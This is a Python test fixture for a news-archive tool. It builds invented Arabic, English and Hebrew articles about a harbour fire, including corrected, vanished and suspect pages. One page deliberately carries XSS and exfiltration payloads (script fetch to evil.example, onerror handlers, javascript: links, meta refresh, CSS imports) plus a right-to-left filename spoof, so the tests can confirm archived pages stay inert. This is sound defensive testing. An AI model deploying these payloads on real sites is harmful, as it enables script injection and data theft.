"""A small kept story for pages to look at, made in a second without any web: Arabic, English and Hebrew articles of invented outlets,
one that was corrected and one that went at a second visit, one in doubt, and one whose words are an attack."""

import uuid
from collections.abc import Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from functools import cache
from html import escape
from pathlib import Path
from urllib.parse import quote

from archive.capture import Capture
from archive.fate import Fate, Outcome
from archive.manifests.manifest import Manifest
from archive.record import RecordRef
from archive.spool.spool import Spool, SpoolName, SpoolOptions
from article.article import Article, Status
from article.extract import extract
from article.page import page_of
from article.way import Way
from flows.close import Ending, close_run
from flows.house import House
from flows.lines import Judged
from flows.run import Run, RunKind, running
from flows.settings import load_settings
from spiders.frontier.plan import Plan, Purpose, Settled
from story.link import Channel, Link
from story.verdict import Reason, Relation, Verdict
from tests.builders import a_capture

STORY, EMPTY = "harbour-fire", "silent-valley"
FIRST, SECOND = datetime(2025, 7, 28, 12, 30, tzinfo=UTC), datetime(2025, 7, 29, 6, 0, tzinfo=UTC)
_AR = (
    "اندلع حريق كبير في مستودعات الميناء القديم فجر الاثنين، وتصاعدت أعمدة الدخان فوق الأحياء القريبة قبل أن تصل فرق الإطفاء.",
    "وقال قائد فرق الدفاع المدني إن النيران امتدت إلى ثلاثة مستودعات للأخشاب، وإن السيطرة عليها استغرقت أكثر من سبع ساعات متواصلة.",
    "وأعلنت بلدية المدينة إغلاق الطريق الساحلي أمام الشاحنات حتى إشعار آخر، ودعت السكان إلى إبقاء النوافذ مغلقة طوال النهار.",
    "ولم تُعرف أسباب الحريق بعد، فيما بدأت لجنة من المهندسين معاينة ما بقي من المستودعات وجمع شهادات العمال.",
)
_EN = (
    "A large fire broke out in the timber warehouses of the old harbour before dawn on Monday, sending smoke over nearby districts.",
    "The head of the civil defence said that the flames spread to three warehouses and took more than seven hours to put out.",
    "The city council closed the coast road to lorries until further notice and asked people to keep their windows shut all day.",
    "The cause is not known yet, and a commission of engineers has begun to look at what is left of the warehouses.",
)
_HE = (
    "שריפה גדולה פרצה לפני עלות השחר במחסני העץ של הנמל הישן, ועמודי עשן היתמרו מעל השכונות הסמוכות לפני הגעת הכבאים.",
    "מפקד כוחות הכיבוי אמר כי הלהבות התפשטו לשלושה מחסנים, וכי ההשתלטות עליהן ארכה יותר משבע שעות רצופות.",
    "העירייה סגרה את כביש החוף למשאיות עד להודעה חדשה וביקשה מן התושבים להשאיר את החלונות סגורים במשך היום.",
)
_EVIL = (
    "<script>fetch('http://evil.example/stolen')</script> stands in this sentence as its words, and nothing of it may ever run anywhere.",
    "The name of the file was \u202egnp.exe\u202c and the reporter wrote it down exactly as the harbour office had sent it that morning.",
    "<img src=x onerror=\"document.title='owned'\"> is the second thing that the harbour office wrote into its long report about it.",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Told:
    """One page of an outlet: what it says, and what the judge made of it."""

    slug: str
    host: str
    language: str
    title: str
    text: Sequence[str]
    day: str = "2025-07-28"
    relation: Relation = Relation.RELATED
    score: float = 4.2
    copy_of: str | None = None
    is_suspect: bool = False
    hostile: bytes = b""

    @property
    def url(self) -> str:
        """Return the page's address."""
        return f"https://{self.host}/2025/{quote(self.slug)}"


CORRECTED = Told(slug="fire-ar", host="www.bay.example", language="ar", title="حريق كبير في مستودعات الميناء القديم", text=_AR)  # fmt: skip
GONE = Told(slug="fire-en", host="herald.example", language="en", title="Fire in the warehouses of the old harbour", text=_EN)  # fmt: skip
# What an archived page may hold that must neither run nor reach anything; `{sink}` is where it would call.
ATTACK = (
    b"<script>fetch('{sink}/script')</script><img src='{sink}/picture.png' onerror=\"fetch('{sink}/onerror')\">"
    b"<meta http-equiv=refresh content='0;url={sink}/refresh'><link rel=stylesheet href='{sink}/style.css'>"
    b"<link rel=prefetch href='{sink}/prefetch'><link rel=preconnect href='{sink}'><base href='{sink}/'>"
    b"<form action='{sink}/form' id=f><button id=send>send</button></form><iframe src='{sink}/frame'></iframe>"
    b"<svg><script>fetch('{sink}/svg')</script><image href='{sink}/svg.png'/></svg><object data='{sink}/object'></object>"
    b"<video src='{sink}/video' autoplay></video><style>@import '{sink}/import.css';body{background:url({sink}/background)}</style>"
    b"<svg width=9 height=9><a id=set><set attributeName=href to='{sink}/set'></set><rect width=9 height=9></rect></a></svg>"
    b"<a id=go href='{sink}/link' ping='{sink}/ping'>away</a><a id=js href=\"javascript:fetch('{sink}/javascript')\">run</a>"
)
HOSTILE = Told(
    slug="report-en", host="office.example", language="en", day="2025-07-29",
    title="<b onmouseover=alert(1)>Report\u202e</b> & \"quotes\"", text=_EVIL,
)  # fmt: skip
PAGES = (
    CORRECTED,
    GONE,
    Told(slug="copy-ar", host="mirror.example", language="ar", title="حريق كبير في مستودعات الميناء القديم", text=_AR, relation=Relation.COPY_OF, copy_of=CORRECTED.url),
    Told(slug="esh", host="hof.example", language="he", title="שריפה במחסני הנמל הישן", text=_HE, day="2025-07-29", is_suspect=True),
    Told(slug="council", host="herald.example", language="en", title="Council meets about the coast road", text=tuple(reversed(_EN)), day="2025-07-30", relation=Relation.UNSURE, score=0.397),
    Told(slug="عاجل-الميناء", host="www.bay.example", language="ar", title="لجنة من المهندسين تعاين ما بقي من المستودعات", text=tuple(reversed(_AR)), day="2025-07-31"),
    HOSTILE,
    Told(slug="football", host="herald.example", language="en", title="The harbour club wins again", text=("The harbour club won its third match in a row and its coach said that the team had trained hard all the summer long.",) * 3, relation=Relation.UNRELATED, score=-5.0),
)  # fmt: skip


def html_of(told: Told, sink: str = "http://127.0.0.1:9") -> bytes:
    """Return a page as its outlet serves it; a hostile one holds the whole attack too."""
    direction = "rtl" if told.language in {"ar", "he"} else "ltr"
    paragraphs = "".join(f"<p>{escape(p)}</p>" for p in told.text)
    attack = ATTACK.replace(b"{sink}", sink.encode()) if told is HOSTILE else b""
    title = escape(told.title)
    return (
        f"<!doctype html><html lang='{told.language}' dir='{direction}'><head><meta charset='utf-8'><title>{title}</title>"
        f"<meta property='og:title' content='{title}'><meta property='article:published_time' content='{told.day}T05:00:00Z'>"
    ).encode() + attack + f"</head><body><nav><a href='/'>Home</a></nav><article><h1>{title}</h1>{paragraphs}</article></body></html>".encode()  # fmt: skip


def a_desk_house(folder: Path, sink: str = "http://127.0.0.1:9") -> House:
    """Keep both stories in a store in a folder, and return its house."""
    house = House(settings=load_settings(store=str(folder / "store")))
    with running(house, STORY, RunKind.GATHER, now=FIRST) as run:
        refs = _kept(run, [(told.url, _answer(html_of(told, sink))) for told in PAGES])
        judged = [_judged(told, html_of(told, sink), ref) for told, ref in zip(PAGES, refs, strict=True)]
        close_run(
            run, Ending(judged=judged, notes=("one outlet answered slowly",)), FIRST + timedelta(minutes=4)
        )
    _second_visit(house)
    with running(house, EMPTY, RunKind.GATHER, now=FIRST + timedelta(hours=1)) as run:
        _kept(run, [("https://nowhere.example/", _answer(b"not here", 404))], Fate.FAILED, "http_status")
        close_run(run, Ending(failed=True), FIRST + timedelta(hours=1, minutes=1))
    return house


def _second_visit(house: House) -> Manifest:
    """Come again: one article has other words, one is gone, one is as it was."""
    corrected = replace(CORRECTED, text=(_AR[0], _AR[1].replace("ثلاثة", "أربعة"), *_AR[2:]))
    same = PAGES[5]
    with running(house, STORY, RunKind.REFETCH, now=SECOND) as run:
        answers = [(corrected.url, _answer(html_of(corrected))), (GONE.url, _answer(b"gone", 410)), (same.url, _answer(html_of(same)))]  # fmt: skip
        refs = _kept(run, answers)
        ends = (
            Outcome(url=corrected.url, fate=Fate.KEPT, reason="changed", ref=refs[0]),
            Outcome(url=GONE.url, fate=Fate.NOT_AN_ARTICLE, reason="gone", why="410 Gone", ref=refs[1]),
            Outcome(url=same.url, fate=Fate.SAME_AS_BEFORE, reason="same-bytes", ref=refs[2]),
        )
        ending = Ending(
            judged=[_judged(corrected, html_of(corrected), refs[0])], changed={end.url: end for end in ends}
        )
        return close_run(run, ending, SECOND + timedelta(minutes=1))


def _answer(body: bytes, status: int = 200) -> bytes:
    head = f"HTTP/1.1 {status} Answer\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


def _kept(
    run: Run, answers: Sequence[tuple[str, bytes]], fate: Fate = Fate.KEPT, reason: str = "ok"
) -> list[RecordRef]:
    """Put answers into a run as a crawl does: captured, committed, settled."""
    spool = Spool(
        run.house.spool,
        SpoolName(story=run.story, run=run.run_id, worker="w0"),
        options=SpoolOptions(software="warraq/test"),
        now=lambda: run.began_at,
        new_id=lambda: uuid.uuid4().urn,
    )
    refs = [spool.keep(_capture(run, n, url, answer)) for n, (url, answer) in enumerate(answers)]
    marks = spool.close()
    with run.frontier() as frontier:
        frontier.plan([Plan(url=url, purpose=Purpose.PAGE) for url, _ in answers])
        ends = [Outcome(url=ref.url, fate=fate, reason=reason, ref=ref) for ref in refs]
        frontier.settle([Settled(outcome=end) for end in ends], marks)
    return refs


def _capture(run: Run, number: int, url: str, answer: bytes) -> Capture:
    host, _, path = url.split("//", 1)[1].partition("/")
    request = f"GET /{path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    at = run.began_at + timedelta(seconds=number)
    return a_capture(url=url, request=request, response=answer, requested_at=at)


@cache
def _read(url: str, body: bytes) -> Article:
    found = extract(page_of(body, url=url, content_type="text/html; charset=utf-8"), way=Way.FAST)
    assert isinstance(found, Article), found
    return found


def _judged(told: Told, body: bytes, ref: RecordRef) -> Judged:
    read = _read(told.url, body)
    status = Status.SUSPECT if told.is_suspect else read.status
    article = replace(
        read, ref=ref, title=told.title, outlet=told.host, status=status, language=told.language
    )
    reasons = (
        Reason(rule="intercept", weight=-3.4, detail="most articles belong to no story"),
        Reason(rule="names", weight=told.score + 3.4, detail="names الميناء القديم"),
    )
    verdict = Verdict(
        article=told.url,
        relation=told.relation,
        score=told.score,
        reasons=reasons,
        copy_of=told.copy_of,
        related=told.relation in {Relation.RELATED, Relation.COPY_OF},
    )
    link = Link(url=told.url, channel=Channel.FEED, found_in=f"https://{told.host}/", outlet=told.host)
    return Judged(article=article, verdict=verdict, links=(link,))
